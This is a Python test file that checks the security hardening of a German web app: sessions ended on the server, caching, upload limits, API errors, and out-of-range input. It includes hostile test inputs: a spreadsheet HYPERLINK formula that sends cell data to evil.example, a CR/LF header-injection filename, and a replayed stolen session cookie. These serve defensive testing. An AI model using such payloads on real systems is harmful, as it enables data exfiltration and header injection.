"""Web hardening against the real web app (``create_app`` behind the test client, or served by
uvicorn where the HTTP layer matters): server-side sessions, caching, download names, query
parameters, the chat API's errors, the OpenAPI document, id and date bounds, CSV injection."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import select

from models import Attachment, Consultation, District, FollowUpTask, session_scope
from tests.conftest import free_port
from tests.helpers import cli_env
from tests.test_web_support import PASSWORD, add_user, csrf_from, ingest, login, mail, web_runtime
from web.app import create_app


@pytest.fixture
def runtime(sqlite_url):
    rt = web_runtime(sqlite_url)
    add_user(rt, "anna", "berater")
    add_user(rt, "lea", "leitung")
    add_user(rt, "adam", "admin")
    yield rt
    rt.engine.dispose()


@pytest.fixture
def app(runtime):
    return create_app(runtime)


def _client(app) -> TestClient:
    return TestClient(app)


def _session_cookie(client: TestClient) -> str:
    return client.cookies["eingang_session"]


def _with_cookie(app, cookie: str) -> TestClient:
    thief = TestClient(app)
    thief.cookies.set("eingang_session", cookie)
    return thief


def _csrf(client: TestClient, path: str = "/eingang") -> str:
    return csrf_from(client.get(path).text)


# ---------------------------------------------------------------- sessions end on the server


def test_logout_ends_the_session_for_every_copy_of_the_cookie(app):
    with _client(app) as anna:
        assert login(anna, "anna").status_code == 303
        copied = _session_cookie(anna)
        with _with_cookie(app, copied) as thief:
            assert thief.get("/eingang", follow_redirects=False).status_code == 200
            anna.post("/abmelden", data={"csrf_token": _csrf(anna)})
            assert anna.get("/eingang", follow_redirects=False).status_code == 303
            # the copy, still signed and within its max-age, is worthless now
            thief.cookies.set("eingang_session", copied)
            response = thief.get("/eingang", follow_redirects=False)
            assert response.status_code == 303 and response.headers["location"].startswith("/anmelden")
            thief.cookies.set("eingang_session", copied)
            assert thief.get("/api/me").status_code == 401


def test_a_password_change_ends_every_login_of_the_account(app, runtime):
    with _client(app) as office, _client(app) as laptop, _client(app) as colleague:
        for client, name in ((office, "anna"), (laptop, "anna"), (colleague, "lea")):
            assert login(client, name).status_code == 303
        copied = _session_cookie(office)
        changed = subprocess.run(
            [sys.executable, "-m", "eingang.cli.main", "users", "password", "anna", "--password-stdin"],
            input="ein-ganz-neues-passwort\n",
            env=cli_env(database_url=runtime.settings.database_url),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert changed.returncode == 0, changed.stderr
        assert "alle Anmeldungen" in changed.stdout
        assert office.get("/eingang", follow_redirects=False).status_code == 303
        assert laptop.get("/eingang", follow_redirects=False).status_code == 303
        with _with_cookie(app, copied) as thief:
            assert thief.get("/api/me").status_code == 401
        assert colleague.get("/eingang", follow_redirects=False).status_code == 200  # other accounts stay
        assert login(office, "anna", "ein-ganz-neues-passwort").status_code == 303
        assert login(laptop, "anna", PASSWORD).status_code == 401


def test_disabling_a_user_ends_the_login_and_enabling_does_not_revive_it(app):
    with _client(app) as anna, _client(app) as adam:
        assert login(anna, "anna").status_code == 303
        assert login(adam, "adam").status_code == 303
        copied = _session_cookie(anna)
        token = _csrf(adam, "/admin/benutzer")
        adam.post("/admin/benutzer/anna/aktiv", data={"csrf_token": token})  # disable
        assert anna.get("/eingang", follow_redirects=False).status_code == 303
        adam.post("/admin/benutzer/anna/aktiv", data={"csrf_token": token})  # enable again
        with _with_cookie(app, copied) as thief:
            assert thief.get("/eingang", follow_redirects=False).status_code == 303
        assert login(anna, "anna").status_code == 303  # a fresh login works


# ---------------------------------------------------------------- body limits per path


def test_body_limits_depend_on_the_path(app, runtime):
    reference = ingest(runtime, mail())
    api_token = add_user(runtime, "skript", "berater", token=True)
    bearer = {"Authorization": f"Bearer {api_token}", "content-type": "application/json"}
    two_mb = b'{"text": "' + b"a" * (2 * 1024 * 1024) + b'"}'
    with _client(app) as client:
        note = client.post(f"/api/consultations/{reference}/notes", content=two_mb, headers=bearer)
        assert note.status_code == 413 and note.json() == {"detail": "Die Anfrage ist zu groß."}

        def chunks():  # no Content-Length: counted while it streams in
            yield two_mb[: 1024 * 1024]
            yield two_mb[1024 * 1024 :]

        streamed = client.post(f"/api/consultations/{reference}/notes", content=chunks(), headers=bearer)
        assert streamed.status_code == 413 and streamed.json() == {"detail": "Die Anfrage ist zu groß."}
        # an answer may be larger (attachments): 2 MB pass the limit and reach the handler
        answer = client.post(f"/api/consultations/{reference}/answers", content=two_mb, headers=bearer)
        assert answer.status_code != 413
        assert login(client, "anna").status_code == 303
        page = client.post(
            f"/faelle/{reference}/notizen",
            data={"text": "a" * (2 * 1024 * 1024), "csrf_token": _csrf(client)},
            follow_redirects=False,
        )
        assert page.status_code == 413 and "zu groß" in page.text


# ---------------------------------------------------------------- caching, downloads, query parameters


def test_pages_and_api_responses_are_not_stored_by_caches(app, runtime):
    reference = ingest(runtime, mail())
    api_token = add_user(runtime, "skript", "leitung", token=True)
    with _client(app) as client:
        assert login(client, "lea").status_code == 303
        for path in ("/anmelden", "/eingang", f"/faelle/{reference}", "/dashboard", "/fehlgeschlagen"):
            response = client.get(path)
            assert response.status_code == 200, path
            assert response.headers["cache-control"] == "no-store", path
        for path in ("/api/consultations", f"/api/consultations/{reference}", "/api/statistics", "/api/openapi.json"):
            response = client.get(path, headers={"Authorization": f"Bearer {api_token}"})
            assert response.status_code == 200, path
            assert "no-store" in response.headers["cache-control"], path
        assert "no-store" in client.get("/api/nicht-da").headers["cache-control"]
        assert "no-store" not in client.get("/static/app.css").headers.get("cache-control", "")


def test_an_attachment_name_with_control_characters_can_be_downloaded(runtime):
    """Through uvicorn (the real HTTP layer): a CR/LF in a header value used to break the download."""
    from web.server import WebServer

    reference = ingest(runtime, mail(attachment=("bericht.pdf", b"%PDF-1.4 Inhalt", "application/pdf")))
    hostile = 'Bericht\r\nSet-Cookie: x=1\x07\x00 Übersicht "2026".pdf'
    with session_scope(runtime.engine) as session:
        attachment = session.exec(select(Attachment)).one()
        attachment.filename = hostile
        attachment_id = attachment.id
    server = WebServer(runtime, host="127.0.0.1", port=free_port()).start()
    try:
        with httpx.Client(base_url=server.url) as client:
            assert login(client, "anna").status_code == 303
            assert client.get(f"/faelle/{reference}").status_code == 200
            response = client.get(f"/anhaenge/{attachment_id}")
    finally:
        server.stop()
    assert response.status_code == 200
    assert response.content == b"%PDF-1.4 Inhalt"
    assert "x=1" not in response.headers.get("set-cookie", "")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "filename*=UTF-8''Bericht%20Set-Cookie%3A%20x%3D1%20%C3%9Cbersicht%20%222026%22.pdf" in disposition
    assert all(32 <= ord(char) < 127 for char in disposition)
    assert response.headers["cache-control"] == "private, no-store"


def test_no_query_parameter_sets_the_status_or_prefills_the_answer(app, runtime):
    reference = ingest(runtime, mail())
    with _client(app) as client:
        assert login(client, "anna").status_code == 303
        response = client.get(
            f"/faelle/{reference}", params={"status_code": "500", "draft": "Überweisen Sie 5000 € an IBAN DE00"}
        )
        assert response.status_code == 200
        assert "Überweisen Sie" not in response.text
        assert client.get(f"/faelle/{reference}", params={"status_code": "204"}).status_code == 200


# ---------------------------------------------------------------- the chat API and the OpenAPI document


def test_the_chat_api_answers_errors_in_json(app):
    with _client(app) as client:
        cases = [
            client.post("/chat/api/messages", content=b"{kein json", headers={"content-type": "application/json"}),
            client.post("/chat/api/sessions", json={"name": ["liste"], "email": 5}),
            client.get("/chat/api/lines", params={"wait": "ewig"}),
            client.get("/chat/api/consultations/1"),  # the consultants' side needs a login
            client.put("/chat/api/sessions", json={}),
            client.get("/chat/api/gibt-es-nicht"),
            client.post("/chat/api/messages", content=b"x" * (70 * 1024), headers={"content-type": "application/json"}),
        ]
        statuses = [response.status_code for response in cases]
        assert statuses == [422, 422, 422, 401, 405, 404, 413], statuses
        for response in cases:
            assert response.headers["content-type"].startswith("application/json"), response.text[:200]
            body = response.json()
            assert body["error"] and body["message"], body
            assert body["message"] not in ("Not Found", "Method Not Allowed", "Content Too Large")


def test_the_openapi_document_declares_security_schemes_and_error_responses(app):
    with _client(app) as client:
        document = client.get("/api/openapi.json").json()
    schemes = document["components"]["securitySchemes"]
    assert schemes["bearerToken"] == {
        "type": "http",
        "scheme": "bearer",
        "description": "API-Token: `eingang users token NAME`",
    }
    assert schemes["sessionCookie"]["in"] == "cookie" and schemes["sessionCookie"]["name"] == "eingang_session"
    operations = [
        (path, method, operation)
        for path, item in document["paths"].items()
        for method, operation in item.items()
        if path.startswith("/api/") or path.startswith("/chat/api/consultations")
    ]
    assert len(operations) > 15
    for path, method, operation in operations:
        assert {"bearerToken": []} in operation.get("security", []), (method, path)
        for status in ("401", "404", "422"):
            assert status in operation["responses"], (method, path, status)
    visitor = document["paths"]["/chat/api/messages"]["post"]
    assert "security" not in visitor  # visitors are anonymous
    assert {"413", "422", "429"} <= set(visitor["responses"])
    assert document["components"]["schemas"]["ChatError"]["required"] == ["error", "message"]


# ---------------------------------------------------------------- ids and dates out of range (PostgreSQL)


@pytest.mark.postgres
def test_ids_beyond_the_integer_range_and_far_off_dates_are_client_errors(postgres_url):
    runtime = web_runtime(postgres_url)
    try:
        api_token = add_user(runtime, "lea", "leitung", token=True)
        reference = ingest(runtime, mail())
        bearer = {"Authorization": f"Bearer {api_token}"}
        huge = 2**31  # one beyond PostgreSQL's integer
        enormous = 10**20  # beyond any 64-bit integer
        with TestClient(create_app(runtime), raise_server_exceptions=False) as client:
            task = client.post(f"/api/consultations/{reference}/tasks", json={"title": "Rückruf"}, headers=bearer)
            assert task.status_code == 201, task.text
            task_id = task.json()["id"]
            api_calls = [
                ("post", f"/api/tasks/{huge}/complete", None),
                ("post", f"/api/tasks/{enormous}/complete", None),
                ("post", f"/api/tasks/{huge}/postpone", {"reason": "später", "working_days": 1}),
                ("post", f"/api/messages/{huge}/reprocess", None),
                ("get", f"/chat/api/consultations/{huge}", None),
                ("get", f"/chat/api/consultations/1?after={enormous}", None),
                ("get", "/api/statistics?bis=9999-12-31", None),
                ("get", "/api/statistics?von=0001-01-01", None),
                ("get", "/api/statistics/kreise?bis=9999-12-31", None),
                ("get", "/api/statistics/annual/99999", None),
                ("get", "/api/consultations?bis=9999-12-31", None),
                ("post", f"/api/tasks/{task_id}/postpone", {"reason": "später", "working_days": 1_000_000}),
                ("post", f"/api/tasks/{task_id}/postpone", {"reason": "später", "due": "9999-12-31"}),
                ("post", f"/api/consultations/{reference}/tasks", {"title": "x", "due": "9999-12-31"}),
            ]
            for method, path, body in api_calls:
                response = client.request(method, path, json=body, headers=bearer)
                assert response.status_code in (404, 422), (method, path, response.status_code, response.text[:300])
            assert login(client, "lea").status_code == 303
            page_calls = [
                "/dashboard?jahr=99999",
                "/dashboard?bis=9999-12-31",
                "/dashboard/export/kreise.csv?bis=9999-12-31",
                f"/anhaenge/{huge}",
                f"/anhaenge/{enormous}",
            ]
            for path in page_calls:
                response = client.get(path)
                assert 400 <= response.status_code < 500, (path, response.status_code)
            assert client.get("/eingang?bis=9999-12-31").status_code == 200  # an impossible filter is ignored
            csrf = _csrf(client)
            postponed = client.post(
                f"/faelle/{reference}/aufgaben/{task_id}/verschieben",
                data={"reason": "später", "due": "9999-12-31", "csrf_token": csrf},
                follow_redirects=False,
            )
            assert postponed.status_code == 303
            with session_scope(runtime.engine) as session:
                assert session.get(FollowUpTask, task_id).due.year < 2101
    finally:
        runtime.engine.dispose()


# ---------------------------------------------------------------- CSV injection


def test_csv_and_xlsx_exports_neutralise_formula_cells(app, runtime):
    from web.exports import FORMULA_STARTS

    reference = ingest(runtime, mail())
    with session_scope(runtime.engine) as session:
        consultation = session.exec(select(Consultation).where(Consultation.reference == reference)).one()
        assert consultation.authority_key, "the test mail must link to an authority"
        district_key = consultation.authority_key[:5]  # a municipality's or association's key starts with it
        session.execute(
            text("UPDATE district SET name = :name WHERE key = :key"),
            {"name": '=HYPERLINK("http://evil.example/?x="&A1;"Klick")', "key": district_key},
        )
        assert session.get(District, district_key) is not None
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")']
    with _client(app) as client:
        assert login(client, "lea").status_code == 303
        content = client.get("/dashboard/export/kreise.csv").content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(content), delimiter=";"))
        names = [row[0] for row in rows[1:]]
        # The district column may carry the kind before the name ("Landkreis =HYPERLINK…"); either way
        # the hostile text is there and no cell starts like a formula.
        assert any(hostile[0] in name for name in names), names
        assert not any(name.startswith(FORMULA_STARTS) for name in names)
        workbook = load_workbook(io.BytesIO(client.get("/dashboard/export/kreise.xlsx").content))
        cells = [str(row[0]) for row in workbook.active.iter_rows(values_only=True) if row[0] is not None]
        assert any(hostile[0] in cell for cell in cells), cells
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_csv(start):
    from web.exports import table_csv
    from web.statistics import Table

    table = Table("probe", "Probe", [start + "Spalte", "Zahl"], [[start + "1+1", -3]])
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["'" + start + "Spalte", "Zahl"], ["'" + start + "1+1", "-3"]]  # numbers stay numbers


@pytest.mark.postgres
def test_nul_bytes_in_input_are_client_errors_on_postgresql(postgres_url):
    """PostgreSQL refuses NUL in text; that is the client's error (422), not a 500."""
    runtime = web_runtime(postgres_url)
    try:
        api_token = add_user(runtime, "lea", "leitung", token=True)
        reference = ingest(runtime, mail())
        bearer = {"Authorization": f"Bearer {api_token}"}
        with TestClient(create_app(runtime), raise_server_exceptions=False) as client:
            calls = [
                ("get", "/api/consultations?behoerde=16%0061", None),
                ("get", "/api/consultations/KV-2026%00", None),
                ("post", f"/api/consultations/{reference}/notes", {"text": "Notiz\u0000mit NUL"}),
                ("post", f"/api/consultations/{reference}/assignee", {"assignee": "le\u0000a"}),
                ("get", "/chat/api/consultations/1?after=0", None),
            ]
            for method, path, body in calls:
                response = client.request(method, path, json=body, headers=bearer)
                assert 400 <= response.status_code < 500, (method, path, response.status_code, response.text[:300])
                assert response.headers["content-type"].startswith("application/json")
            # The full-text search takes only letters and digits of q: the NUL never reaches the database.
            searched = client.get("/api/consultations?q=DMS%00", headers=bearer)
            assert searched.status_code in (200, 422), searched.status_code
            started = client.post("/chat/api/sessions", json={"name": "Nu\u0000ll", "email": "null@example.de"})
            assert 400 <= started.status_code < 500 or started.status_code == 201, started.text
            assert login(client, "lea").status_code == 303
            page = client.get("/eingang?q=%00")
            assert page.status_code in (200, 422), page.status_code
            note = client.post(
                f"/faelle/{reference}/notizen",
                data={"text": "a\x00b", "csrf_token": _csrf(client)},
                follow_redirects=False,
            )
            assert 400 <= note.status_code < 500 or note.status_code == 303, note.status_code
    finally:
        runtime.engine.dispose()
